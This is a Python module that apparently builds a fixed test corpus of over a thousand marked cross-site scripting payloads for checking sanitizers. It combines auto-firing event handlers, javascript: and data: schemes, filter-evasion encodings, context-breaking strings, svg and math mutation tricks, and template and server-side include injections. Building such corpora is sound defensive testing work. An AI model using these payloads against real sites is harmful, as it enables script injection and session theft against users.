"""More than a thousand texts that try to act, put together from a few parts.

Each tries one way out of the words that it should stay, or one way to act once it is
out. They are made, not collected: the same every time, in the same order. The name of
each says how it is put together, and its mark, a word such as ``zq0042``, is in whatever
it would make a browser do.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

# What a browser may have between the name of a tag and its attributes.
GAPS = {
    "space": " ",
    "slash": "/",
    "tab": "\t",
    "line": "\n",
    "feed": "\f",
    "mix": "/ \t",
}
# How a value may be given: quoted, bare, or in entities that stand for its letters.
VALUES = {
    "double": lambda value: f'"{value}"',
    "single": lambda value: f"'{value}'",
    "bare": lambda value: value.replace(" ", "/**/"),
    "decimal": lambda value: '"' + "".join(f"&#{ord(one)};" for one in value) + '"',
    "hex": lambda value: '"' + "".join(f"&#x{ord(one):x}" for one in value) + ';"',
}
# Elements on which a handler runs without anybody touching them, and what makes it run.
BY_THEMSELVES = {
    "img": ("onerror", "src=x"),
    "image": ("onerror", "src=x"),
    "video": ("onerror", "src=x"),
    "audio": ("onerror", "src=x"),
    "object": ("onerror", "data=x"),
    "embed": ("onload", "src=x"),
    "script": ("onerror", "src=x"),
    "link": ("onerror", "rel=stylesheet href=x"),
    "iframe": ("onload", "src=x"),
    "body": ("onpageshow", "id=x"),
    "svg": ("onload", "id=x"),
    "style": ("onload", "id=x"),
    "marquee": ("onstart", "loop=1"),
    "details": ("ontoggle", "open"),
    "input": ("onfocus", "autofocus"),
    "select": ("onfocus", "autofocus"),
    "textarea": ("onfocus", "autofocus"),
    "button": ("onfocus", "autofocus"),
    "a": ("onfocus", "tabindex=1 autofocus"),
    "p": ("onanimationstart", 'style="animation:x"'),
    "div": ("onfocusin", "tabindex=1 autofocus"),
    "dialog": ("oncancel", "open"),
    "unknown-element": ("onfocus", "tabindex=1 autofocus"),
}
# Handlers on what our own texts are made of.
TOUCHED = (
    "onclick", "onmouseover", "onpointerenter", "onfocus", "onwheel", "oncopy",
    "ondragstart", "oncontextmenu", "onbeforetoggle", "ontransitionend",
)  # fmt: skip
OURS = (
    "a",
    "p",
    "b",
    "em",
    "h2",
    "li",
    "table",
    "td",
    "th",
    "blockquote",
    "img",
    "section",
)
# Ways to write the scheme of an address that a browser runs.
SCHEMES = {
    "plain": "javascript:{}",
    "mixed": "jAvAsCrIpT:{}",
    "tab": "java\tscript:{}",
    "line": "java\nscript:{}",
    "return": "javascript\r:{}",
    "before": "\x01 javascript:{}",
    "entity": "&#106;avascript:{}",
    "named": "java&Tab;script&colon;{}",
    "endless": "&#0000106avascript:{}",
    "comment": "javascript://%0a{}",
    "vbscript": "vbscript:{}",
    "data": "data:text/html,<script>{}</script>",
    "base64": "data:text/html;base64,{}",
    "image": "data:image/svg+xml,<svg onload={}>",
    "blob": "blob:{}",
    "view": "view-source:javascript:{}",
    "file": "file:///etc/{}",
    "relative": "//{}.example/x.js",
}
# Elements with an address that a browser opens, loads or sends to.
CARRIERS = {
    "a": '<a href="{}">{mark}</a>',
    "area": '<map name="{mark}"><area href="{}"></map>',
    "iframe": '<iframe src="{}" title="{mark}"></iframe>',
    "frame": '<frameset><frame src="{}" name="{mark}"></frameset>',
    "object": '<object data="{}" id="{mark}"></object>',
    "param": '<object id="{mark}"><param name=src value="{}"></object>',
    "embed": '<embed src="{}" id="{mark}">',
    "form": '<form action="{}" id="{mark}"><button>Go</button></form>',
    "formaction": '<button formaction="{}" id="{mark}">Go</button>',
    "input": '<input type=image formaction="{}" id="{mark}">',
    "base": '<base href="{}" id="{mark}">',
    "link": '<link rel=stylesheet href="{}" id="{mark}">',
    "import": '<link rel=import href="{}" id="{mark}">',
    "refresh": '<meta http-equiv=refresh content="0;url={}" id="{mark}">',
    "img": '<img src="{}" alt="{mark}">',
    "srcset": '<img srcset="{} 2x" alt="{mark}">',
    "source": '<video id="{mark}"><source src="{}"></video>',
    "svg": '<svg id="{mark}"><a xlink:href="{}"><text>x</text></a></svg>',
    "use": '<svg id="{mark}"><use href="{}"/></svg>',
    "animate": '<svg id="{mark}"><a><animate attributeName=href to="{}"/></a></svg>',
    "math": '<math href="{}" id="{mark}">x</math>',
    "script": '<script src="{}" id="{mark}"></script>',
    "background": '<table background="{}" id="{mark}"><tr><td>x</table>',
    "style": '<p style="background:url(\'{}\')" id="{mark}">x</p>',
    "ping": '<a href="https://example.org/" ping="{}">{mark}</a>',
    "manifest": '<html manifest="{}" id="{mark}">',
}
# What ends the place in which a text may stand: an attribute, an element, a comment.
ENDS = {
    "nothing": "",
    "double": '">',
    "single": "'>",
    "backtick": "`>",
    "entity": "&quot;&gt;",
    "tag": "/>",
    "comment": "-->",
    "bang": "--!>",
    "cdata": "]]>",
    "title": "</title>",
    "textarea": "</textarea>",
    "style": "</style>",
    "script": "</script>",
    "noscript": "</noscript>",
    "template": "</template>",
    "xmp": "</xmp>",
    "iframe": "</iframe>",
    "select": "</select></option>",
    "table": "</td></tr></table>",
    "paragraph": "</p></div></article></main>",
    "svg": "</svg></math>",
    "json": '"}]}</script>',
    "element": "</content:encoded></item>",
}
# What does something as soon as it is out.
ACTS = {
    "script": "<script>alert('{mark}')</script>",
    "upper": "<SCRIPT>alert('{mark}')</SCRIPT >",
    "broken": "<scr<script>ipt>alert('{mark}')</scr</script>ipt>",
    "unclosed": "<script>alert('{mark}')//",
    "img": "<img src=x onerror=alert('{mark}')>",
    "half": "<img src=x onerror=alert('{mark}') ",
    "svg": "<svg/onload=alert('{mark}')>",
    "iframe": "<iframe srcdoc=\"&lt;script&gt;alert('{mark}')&lt;/script&gt;\"></iframe>",
    "style": "<style>@import '//{mark}.example/x.css';</style>",
    "template": "<template><img src=x onerror=alert('{mark}')></template>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert('{mark}')>\">",
    "encoded": "&lt;script&gt;alert('{mark}')&lt;/script&gt;",
    "twice": "&amp;lt;script&amp;gt;alert('{mark}')&amp;lt;/script&amp;gt;",
}
# One language inside another, where a parser that reads twice can read two things.
ROOTS = {
    "svg": "<svg>{}",
    "math": "<math>{}",
    "point": "<math><mtext>{}",
    "html": "<svg><foreignObject>{}",
    "desc": "<svg><desc>{}",
    "annotation": '<math><annotation-xml encoding="text/html">{}',
    "form": "<form><math><mtext></form><form>{}",
    "table": "<table><tr><td><svg>{}",
    "select": "<select><svg>{}",
    "heading": "<h2><math><mglyph>{}",
}
RAW = {
    "style": "<style><!--</style><img title=\"--><img src=x onerror=alert('{mark}')>\">",
    "title": "<title><p title=\"</title><img src=x onerror=alert('{mark}')>\">",
    "xmp": "<xmp><p title=\"</xmp><img src=x onerror=alert('{mark}')>\">",
    "noembed": "<noembed><p title=\"</noembed><svg onload=alert('{mark}')>\">",
    "noframes": "<noframes><p title=\"</noframes><svg onload=alert('{mark}')>\">",
    "plaintext": "<plaintext><script>alert('{mark}')</script>",
    "textarea": "<textarea><p title=\"</textarea><img src=x onerror=alert('{mark}')>\">",
    "cdata": "<![CDATA[><img src=x onerror=alert('{mark}')>]]>",
    "comment": "<!--><img src=x onerror=alert('{mark}')>-->",
    "instruction": "<?xml ?><img src=x onerror=alert('{mark}')><?",
    "doctype": "<!DOCTYPE html [<!ENTITY x '{mark}'>]><img src=x onerror=alert('{mark}')>",
    "glyph": "<mglyph><style><math><img src=x onerror=alert('{mark}')></style>",
}
# Attributes that do something without a handler, put into where a value should end.
ATTRIBUTES = (
    "onmouseover=alert('{mark}')",
    "onfocus=alert('{mark}') autofocus tabindex=1",
    "style=width:expression(alert('{mark}'))",
    "style=-moz-binding:url(//{mark}.example/x)",
    "style=background:url(//{mark}.example/x)",
    "srcdoc=<script>alert('{mark}')</script>",
    "formaction=javascript:alert('{mark}')",
    "xlink:href=javascript:alert('{mark}')",
    "is={mark}",
    "contenteditable=true onbeforeinput=alert('{mark}')",
    "popovertarget={mark}",
    "slot={mark}",
    "id={mark} name={mark}",
    "class={mark}",
    "target={mark}",
    "ping=//{mark}.example/",
)
QUOTES = {"double": '"', "single": "'", "backtick": "`", "none": ""}
# The same letters in other clothes, for whoever reads twice or in another encoding.
CLOTHES = {
    "percent": lambda text: "".join(f"%{one:02x}" for one in text.encode()),
    "json": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "hex": lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    "utf7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "wide": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "small": lambda text: text.replace("<", "\ufe64").replace(">", "\ufe65"),
    "quotes": lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    "unclosed": lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    "decimal": lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    "padded": lambda text: text.replace("<", "&#x0003c;").replace(">", "&#x0003e;"),
    "joined": lambda text: text.replace("<", "<\u200d").replace("/", "/\u200b"),
    "right": lambda text: f"\u202e{text}\u202c",
    "template": lambda text: f"{{{{constructor.constructor({text!r})()}}}}",
    "literal": lambda text: f"${{{text}}}",
    "markdown": lambda text: f"[{text}](javascript:alert(1))",
    "server": lambda text: f"<%= {text} %><!--#exec cmd='{text}'-->",
}


@dataclass(frozen=True)
class Payload:
    """One hostile text. ``mark`` is in whatever it would make a browser do."""

    name: str
    mark: str
    text: str


def payloads() -> list[Payload]:
    """Return the corpus: always the same, each text once."""
    made: dict[str, Payload] = {}
    for name, pattern in _patterns():
        mark = f"zq{len(made):04d}"
        text = pattern.replace("{mark}", mark)
        made[text] = Payload(name, mark, text)
    return list(made.values())


def _patterns() -> Iterator[tuple[str, str]]:
    yield from _handlers()
    yield from _addresses()
    for (end, before), (act, doing) in product(ENDS.items(), ACTS.items()):
        yield f"end/{end}/{act}", f"{before}{doing}"
    for (root, around), (raw, inside) in product(ROOTS.items(), RAW.items()):
        yield f"foreign/{root}/{raw}", around.replace("{}", inside)
    for (name, quote), attribute in product(QUOTES.items(), ATTRIBUTES):
        yield f"attribute/{name}/{attribute}", f"x{quote} {attribute} x={quote}"
    for (name, dress), (act, doing) in product(CLOTHES.items(), ACTS.items()):
        yield f"clothes/{name}/{act}", dress(doing)


def _handlers() -> Iterator[tuple[str, str]]:
    call = "alert('{mark}')"
    for (tag, (event, more)), (gap, space) in product(
        BY_THEMSELVES.items(), GAPS.items()
    ):
        yield f"handler/{tag}/{gap}", f"<{tag}{space}{more}{space}{event}={call}>"
    for tag, (value, given) in product(BY_THEMSELVES, VALUES.items()):
        event, more = BY_THEMSELVES[tag]
        # The mark stands beside the value, for those that are spelled in entities.
        said = given("alert(1)")
        yield f"value/{tag}/{value}", f"<{tag} {more} {event}={said} id={{mark}}>"
    for tag, event in product(OURS, TOUCHED):
        cell = tag in ("td", "th")
        before, after = ("<table><tr>", "</tr></table>") if cell else ("", "")
        text = f'{before}<{tag} {event}="{call}">Words</{tag}>{after}'
        yield f"ours/{tag}/{event}", text


def _addresses() -> Iterator[tuple[str, str]]:
    for (carrier, around), (scheme, address) in product(
        CARRIERS.items(), SCHEMES.items()
    ):
        target = address.format("alert(`{mark}`)")
        yield f"address/{carrier}/{scheme}", around.replace("{}", target, 1)
